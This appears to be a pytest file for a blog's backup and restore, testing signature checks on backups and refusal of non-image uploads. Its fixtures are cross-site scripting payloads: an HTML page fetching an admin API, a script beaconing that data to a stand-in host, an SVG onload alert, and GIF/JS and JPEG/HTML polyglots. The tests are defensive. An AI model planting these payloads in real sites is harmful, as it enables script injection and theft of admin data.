"""A tampered backup can't plant pages the site serves as its own (issue 33, item 3): the
manifest is signed with a key derived from SECRET_KEY, so a backup re-signed with another
key (its fingerprint copied) or unsigned is refused unless --trust-unsigned; restored uploads
must be images the uploader could have written, so HTML, JS, SVG and polyglots are refused
even in a correctly signed backup; /uploads/ serves only the uploader's image types."""

import io
from pathlib import Path

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from pipeline import backup, blog, storage
from pipeline.models.db import db
from tests.support.crafted_backups import rewritten
from tests.support.fresh_database import fresh_app
from tests.support.leads_factory import submit_contact

STEM = "Zm9yZ2VkLXVwbG9hZC1uYW1l"  # the shape of the uploader's random names


def cli(app, *args: str):
    return app.test_cli_runner().invoke(args=["backup", *args])


def _image(fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (15, 118, 110)).save(buffer, fmt, **options)
    return buffer.getvalue()


def _text(key: str, value: str) -> PngInfo:
    info = PngInfo()
    info.add_text(key, value)
    return info


PAGE = b"<!doctype html><html><body><script>fetch('/api/admin/users')</script></body></html>"
SCRIPT = b"fetch('/api/admin/users').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
# A GIF that is also a script: the header's bytes open a JS comment the file then closes.
GIF_SCRIPT = _image("GIF") + b"*/=alert(document.domain)//"
CRAFTED = {
    "evil.html": PAGE,
    "evil.js": SCRIPT,
    "evil.svg": SVG,
    f"{STEM}.svg": SVG,
    f"{STEM}.png": PAGE,  # a page under an image's name
    f"{STEM}.gif": GIF_SCRIPT,  # a polyglot: bytes after the image's end
    f"{STEM}-480w.jpg": _image("JPEG") + PAGE,  # an HTML page after a JPEG's end
    f"{STEM}-960w.gif": _image("GIF", comment=b"*/alert(document.domain)/*"),  # in a comment
    f"{STEM}-640w.png": _image("PNG", pnginfo=_text("Comment", "*/alert(document.domain)/*")),
    f"{STEM}.jpg": _image("PNG"),  # a PNG under a JPEG's name
}


def test_the_uploaders_own_pictures_pass_the_restore_check(app):
    with app.app_context():
        for fmt in ("PNG", "JPEG", "WEBP", "GIF"):
            url = blog.store(_image(fmt))
            store = storage.current()
            stem = url.removeprefix("/uploads/").rsplit(".", 1)[0]
            for name in store.names():
                if name.startswith(stem):
                    blog.check_stored(name, store.get(name))  # raises if refused


def test_a_backup_resigned_with_another_key_or_unsigned_is_refused(app, client, tmp_path):
    submit_contact(client, "Rosa", "rosa@example.com", "Hello")
    with app.app_context():
        made = backup.create().path
    forged = rewritten(app, made, tmp_path / "forged.tar", tables={"users": 0},
                       sign_with="the attacker's own key " * 2)  # fmt: skip
    unsigned = rewritten(app, made, tmp_path / "unsigned.tar", sign_with=None)
    with fresh_app(app, tmp_path) as target:
        for path in (forged, unsigned):
            result = cli(target, "restore", str(path))
            assert result.exit_code == 1
            assert "signature does not verify" in result.output
            assert "--trust-unsigned" in result.output
            with target.app_context():
                assert db.inspect(db.engine).get_table_names() == []
        trusted = cli(target, "restore", "--trust-unsigned", str(unsigned))
        assert trusted.exit_code == 0, trusted.output
        assert "signature did not verify" in trusted.output
        with target.app_context():
            assert db.session.scalars(db.text("SELECT email FROM submissions")).all() == [
                "rosa@example.com"
            ]


def test_uploads_that_are_not_the_uploaders_images_are_refused(app, tmp_path):
    """Each in a backup signed with the site's own key: the image check alone stops it,
    before anything is touched; --trust-unsigned does not skip it."""
    with app.app_context():
        made = backup.create().path
    with fresh_app(app, tmp_path) as target:
        for name, data in CRAFTED.items():
            crafted = rewritten(app, made, tmp_path / "crafted.tar", uploads={name: data})
            result = cli(target, "restore", "--trust-unsigned", str(crafted))
            assert result.exit_code == 1, name
            assert "an upload the site would not take" in result.output, result.output
            assert name in result.output
            with target.app_context():
                assert db.inspect(db.engine).get_table_names() == []
            assert not Path(target.config["UPLOADS_DIR"]).exists()


def test_uploads_serves_only_the_uploaders_image_types(app, client):
    with app.app_context():
        url = blog.store(_image("PNG"))
        store = storage.current()
        for name, data in CRAFTED.items():
            store.put(name, data, "text/html")  # planted by hand, past every check
    image = client.get(url)
    assert image.status_code == 200 and image.mimetype == "image/png"
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    for name in ("evil.html", "evil.js", "evil.svg", f"{STEM}.svg"):
        assert client.get(f"/uploads/{name}").status_code == 404, name
    # Under an image's name: served as that image type, never re-sniffed.
    planted = client.get(f"/uploads/{STEM}.png")
    assert planted.mimetype == "image/png"
    assert planted.headers["X-Content-Type-Options"] == "nosniff"
